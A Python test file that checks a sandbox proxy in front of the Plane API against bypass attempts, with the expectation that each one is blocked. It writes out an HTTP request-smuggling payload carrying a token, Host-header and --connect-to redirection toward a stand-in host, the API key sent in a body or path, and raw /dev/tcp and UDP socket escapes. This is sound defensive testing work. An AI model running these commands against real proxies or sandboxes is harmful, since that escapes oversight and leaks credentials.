"""Ways around the proxy that were tried: none reaches production, and none gets a token."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.contained.machine import Machine

# HTTP/2 needs no Content-Length. Without one, an HTTP/1.1 server would read the body as the next request.
SMUGGLE = r"""
printf 'POST /api/v1/workspaces/acme/projects/%s/work-items/ HTTP/1.1\r\nHost: api.plane.so\r\nX-Api-Key: %s\r\n' \
    "$PROD" TOKEN > body
printf 'Content-Type: application/json\r\nContent-Length: 20\r\n\r\n{"name": "smuggled"}' >> body
send() { curl -s --http2 -H "X-Api-Key: $PLANE_API_KEY" -H 'Content-Length:' "$@"; }
send -o answer -X DELETE -H 'Content-Type: text/plain' --data-binary @body "$PROJECTS/$SANDBOX/work-items/$ITEM/"
send -o answer2 -H 'Content-Type: application/json' -d '{"name":"framed"}' "$PROJECTS/$SANDBOX/work-items/"
"""


def test_a_body_without_length_is_not_read_as_another_request(machine: Machine) -> None:
    item = next(iter(machine.plane.sandbox.items.values()))
    script = SMUGGLE.replace("TOKEN", machine.plane.token)
    ran = machine.shell(script, "--sandbox-writes", ITEM=item)
    assert ran.returncode == 0, ran.stderr
    assert machine.plane.changes_of(machine.plane.prod) == []
    assert [request.json for request in machine.plane.writes if request.method == "POST"] == [{"name": "framed"}]
    assert json.loads((machine.folder / "answer2").read_text(encoding="utf-8"))["name"] == "framed"


# Each line prints what the client saw; none of them may reach production, or anything that is not HTTP or TLS.
WAYS = r"""
code() { curl -s -o /dev/null -w '%{http_code}' "$@"; }
write() { code -H "X-Api-Key: $PLANE_API_KEY" -H 'Content-Type: application/json' -d '{"name":"x"}' "$@"; echo " $?"; }
items="api/v1/workspaces/acme/projects/$PROD/work-items/"
echo websocket $(code --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' "$PROJECTS/")
echo by-address $(write --connect-to api.plane.so:443:93.184.216.34:443 "$PROJECTS/$PROD/work-items/")
echo other-name $(write --connect-to "other.test:443:api.plane.so:443" -k "$OTHER/$items")
echo host-header $(write -k -H 'Host: api.plane.so' "$OTHER/$items")
echo plain-placeholder $(write "http://other.test/anything")
echo plain-plane $(write "http://api.plane.so/$items")
echo in-the-body $(code -X GET -d "$PLANE_API_KEY" "$PROJECTS/")
echo in-the-path $(code "$PROJECTS/?token=$PLANE_API_KEY")
echo basic $(code -u "me:$PLANE_API_KEY" "$PROJECTS/")
exec 3<>/dev/tcp/other.test/22; printf 'SSH-2.0-x\r\n' >&3; echo ssh "$(head -c 10 <&3)"
echo udp "$(timeout 1 bash -c 'exec 3<>/dev/udp/8.8.8.8/123; echo x >&3; head -c 1 <&3' 2>&1 | head -c 40)"
echo processes $(ls /proc | grep -c '^[0-9]')
echo interfaces $(tail -n +3 /proc/net/dev | grep -vc ' lo:')
ip route replace local 10.0.0.0/8 dev lo 2>/dev/null || echo no-capability
mount -t tmpfs none /mnt 2>/dev/null || echo no-mount
"""


def test_no_way_around_reaches_production(machine: Machine) -> None:
    ran = machine.shell(WAYS, "--sandbox-writes")
    told = {line.partition(" ")[0]: line.partition(" ")[2] for line in ran.stdout.splitlines()}
    assert told["websocket"] == "403"
    assert told["by-address"] == "403 0"
    assert told["plain-placeholder"] == "403 0"
    assert told["plain-plane"] == "403 0"
    assert (told["in-the-body"], told["in-the-path"]) == ("403", "403")
    assert told["basic"] in {"200", "401", "404"}
    assert told["ssh"] == ""
    assert int(told["processes"]) < 8
    assert told["interfaces"] == "0"
    assert {"no-capability", "no-mount"} <= set(told)
    assert machine.plane.writes == []
    assert machine.local.requests == []
    assert [request.head for request in machine.plane.requests if b"placeholder" in request.head + request.body] == []
    # What a tunnel to another host holds is not read. It arrives at that host, and without a token.
    assert [request.head for request in machine.received if machine.plane.token.encode() in request.head] == []
    assert "refused a connection to other.test:22 (neither HTTP nor TLS)" in ran.stderr
    layers = {(row.layer, row.outcome) for row in machine.decisions()}
    assert layers == {("proxy", "block")}
